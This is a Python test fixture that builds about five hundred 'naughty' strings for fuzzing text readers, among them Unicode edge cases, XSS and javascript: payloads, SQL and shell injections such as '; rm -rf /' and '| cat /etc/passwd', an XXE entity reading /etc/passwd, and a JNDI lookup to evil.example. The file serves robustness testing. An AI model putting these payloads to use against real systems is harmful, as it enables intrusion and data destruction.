"""Some five hundred texts that break readers, by kind; made by rule where there is one, the same in every run."""

from itertools import product

_CONTROLS = [*range(0x20), *range(0x7F, 0xA0)]
_NO_CHARACTERS = [0xFDD0, 0xFDEF, *(plane * 0x10000 + last for plane in range(17) for last in (0xFFFE, 0xFFFF))]
_UNSEEN = [
    *(0xA0, 0xAD, 0x034F, 0x061C, 0x115F, 0x1680, 0x17B4, 0x180E, *range(0x2000, 0x2010), 0x2028, 0x2029, 0x202F),
    *(0x205F, *range(0x2060, 0x2065), 0x206A, 0x206F, 0x3000, 0x3164, 0xFEFF, 0xFFA0, 0xFFF9, 0xFFFB, 0xFFFC, 0xFFFD),
]
_TURNS = [*range(0x202A, 0x202F), *range(0x2066, 0x206A), 0x200E, 0x200F]
_TAGS = ("img src=x", "svg", "body", "iframe", "input autofocus", "video src=x", "details open", "math", "x")
_EVENTS = ("onload", "onerror", "onfocus", "ontoggle", "ONMOUSEOVER")
_SCHEMES = (
    *("javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)"),
    *(" javascript:alert(1)", "\x01javascript:alert(1)", "javascript&colon;alert(1)", "&#106;avascript:alert(1)"),
    *("data:text/html,<script>1</script>", "vbscript:x", "file:///etc/passwd", "//evil.example.org", "/\\evil"),
    *("feed:javascript:1", "https:evil.example.org", "http://", "https://[", "https://a b", "mailto:a@example.org"),
)
_DEVICES = ("CON", "PRN", "AUX", "NUL", "CLOCK$", *(f"COM{at}" for at in range(1, 10)), *(f"LPT{at}" for at in "123¹"))

NAUGHTY: dict[str, tuple[str, ...]] = {
    "control characters": tuple(f"ring{chr(point)}bell" for point in _CONTROLS),
    "no characters": tuple(f"no{chr(point)}thing" for point in _NO_CHARACTERS),
    "halves of pairs": (
        *("\ud800", "\udfff", "a\udbff", "\udc00a", "\udc00\ud800", "\ud83d text", "x\udca9y", "\ud800" * 50),
        *("😀\ud83d", "]]\ud800>", "<\udc00script>", "&\ud800amp;"),
    ),
    "unseen characters": tuple(f"{chr(point)}un{chr(point)}seen" for point in _UNSEEN),
    "turned directions": (
        *(f"a {chr(point)}gpj.exe" for point in _TURNS),
        *(f"{chr(point)}" * 30 for point in _TURNS),
        *("\u202e\u2066\u202a nested", "\u2069\u202c closed twice", "\u200fעברית\u200f and English", "ا (1) a"),
    ),
    "nothing": ("", " ", "\t", "\n", "\r\n", "\u200b", "\ufeff", "\u3000", "\x00", "\u2060\u2060", "\u202e", "\ud800"),
    "emoji": (
        *("👨‍👩‍👧‍👦", "🏳️‍🌈", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "🇩🇪🇫🇷", "🇩", "👍🏿", "1️⃣", "❤️", "❤︎", "🧑🏻‍🤝‍🧑🏿", "‍‍‍", "🏻"),
        *("👩\u200d", "\u200d👩", "🏴\U000e0067", "\ufe0f\ufe0f", "😀" * 500, "☃ and 🄰", "🫠🫥🪿", "©®™"),
    ),
    "scripts": (
        *("日本語の題名", "中文標題", "한국어", "ภาษาไทย", "हिन्दी क्षि", "தமிழ்", "བོད་ཡིག", "ქართული", "አማርኛ", "ᚠᚢᚦ"),
        *("𒀀𒁀𒂀", "𐌰𐌱𐌲", "𝔉𝔯𝔞𝔨𝔱𝔲𝔯", "𝟘𝟙𝟚", "ﬁﬂ", "ｆｕｌｌ　ｗｉｄｔｈ", "ﾊﾝｶｸ"),
        *("＜script＞", "ᄒ\u1161ᆫ", "\ue000\uf8ff"),
        *("ẞß ſ", "İı", "ŉ", "Ǆǅǆ", "ΐ", "K\u212a", "Å\u212b", "é e\u0301", "q\u0323\u0307", "ﷺ", "﷽", "￼"),
    ),
    "combining marks": (
        *("Z\u0351\u036b\u0343a\u0327l\u0357g\u030co", "\u0301first", "a" + "\u0301" * 3000, "\u20dd\u20e3", "\u0345"),
        *("e\u0301\u0301\u0301", "\u0e33\u0e33", "\u094d\u200d\u094d", "\U0001d165", "\u302a漢"),
    ),
    "ends of XML": (
        *("]]>", "]]]]><![CDATA[>", "<![CDATA[x]]>", "<![CDATA[", "--><!--", "<!--", "-->", "<?xml version='1.0'?>"),
        *("<?php echo 1 ?>", "?>", "<!DOCTYPE html>", "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>&a;"),
        *("<!ENTITY a '&b;&b;'>", "</title>", "</item></channel></rss>", "</rss>", "<item>", "<rss xmlns:x=''>", "<"),
        *(">", "&", "'", '"', "\"'", "a<b>c", "<b", "</", "<>", "< >", "<a b='", "xmlns:evil='x'", "<évil/>"),
    ),
    "entities": (
        *("&amp;", "&amp;amp;", "&lt;script&gt;", "&nbsp;", "&bogus;", "&#0;", "&#x0;", "&#xD800;", "&#xFFFE;", "&#;"),
        *("&#x110000;", "&#99999999999;", "&", "&&", "&;", "&#", "&lt", "AT&T", "Q&A; R&D", "%26amp%3B", "&copy 2026"),
    ),
    "events": tuple(f"<{tag} {event}=alert(1)>" for tag, event in product(_TAGS, _EVENTS)),
    "schemes": (*_SCHEMES, *(f'<a href="{each}">x</a>' for each in _SCHEMES)),
    "scripts in HTML": (
        *("<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script/src=//evil>", "<script\x00>x</script>"),
        *("<<script>x//<</script>", "<scr<script>ipt>x</scr</script>ipt>", "</script><script>x</script>", "<script>"),
        *('"><script>x</script>', "'><img src=x>", "--><script>x</script>", "<style>*{}</style>"),
        *("<base href=//evil>", "<image src=x onerror=x>"),
        *("<meta http-equiv=refresh content=0>", "<link rel=stylesheet href=//evil>", "<form action=//evil><input>"),
        *("<object data=x>", "<embed src=x>", "<applet>", "<frameset>", "<template><script>x</script></template>"),
        *("<noscript><p title='</noscript><img src=x onerror=x>'>", "<svg><style><img src=x onerror=x>", "<plaintext>"),
        *("<math><mtext><table><mglyph><style><img src=x onerror=x>", "<textarea><script>x</script>"),
        *("<p style='background:url(//evil)'>x</p>", "<p id=x class=y>", "<a href='https://a.example' onclick=x>a</a>"),
        *("<a ping=//evil href=https://a.example>a</a>", "<img src=https://track.example/1.gif>"),
        *("<h1>x</h1><h2>y</h2>", "<xmp><b>"),
        *("<body><p>in</body>", "<title>t</title>", "</body></html><script>x</script>", "<p" + " a" * 2000 + ">"),
        *("\uff1cscript\uff1e", "%3Cscript%3E", "\\u003cscript\\u003e", "+ADw-script+AD4-", "<script\u2028>x</script>"),
    ),
    "databases": (
        *("'; DROP TABLE episodes; --", "1' OR '1'='1", '" OR ""="', "1; ATTACH 'x'", "\\'; --", "%' AND 1=1"),
        *("') UNION SELECT * FROM token --", "x\x00' --", "NULL", "null", "NaN", "undefined", "None", "nil", "true"),
    ),
    "shells": (
        *("$(reboot)", "`reboot`", "; rm -rf /", "| cat /etc/passwd", "&& true", "> /tmp/x", "$HOME", "${IFS}"),
        *("-rf", "--help", "*", "?", "[a-z]", "a\nb", "%PATH%", "^&|<>", "@echo off", "() { :;}; true"),
    ),
    "formats": (
        *("%s%s%s%n", "%d", "%", "%%", "{}", "{0}", "{0.__class__}", "{", "}", "{{7*7}}", "${7*7}", "<%= 7 %>"),
        *("#{7}", "${jndi:ldap://evil.example/a}", "%(x)s", "\\x00", "\\", "\\\\", "\\n", "#EXTINF:1,x"),
        *("=1+1", "@SUM(A1)", "+1", "-1+1"),
    ),
    "file names": (
        *_DEVICES,
        *("con.txt", "nul.mp3", ".", "..", "../../etc/passwd", "..\\..\\x", "/", "//", "a/b", "a\\b", "C:\\x", "a:b"),
        *("trailing.", "trailing ", ".hidden", "a?b*c", "a|b", "a\x00.mp3", "~", "file:///x", "desktop.ini", "x" * 300),
    ),
    "numbers": (
        *("0", "-0", "1e309", "-1", "1/0", "0x0", "0b1", "007", "1,000.5", "1.000,5", "٣٤", "Ⅷ", "½", "²", "∞", "−1"),
        *("9" * 400, "2147483648", "1_000", "00:00:00", "25:61", "2026-02-30", "1970-01-01T00:00:00Z", "+49 30 1"),
    ),
    "very long": ("a" * 100_000, "ä " * 20_000, "<b>" * 5_000, "&" * 20_000, "]]>" * 5_000, "😀" * 20_000),
}  # fmt: skip  # tables


def everything() -> list[str]:
    """Each of them once."""
    return list(dict.fromkeys(text for texts in NAUGHTY.values() for text in texts))
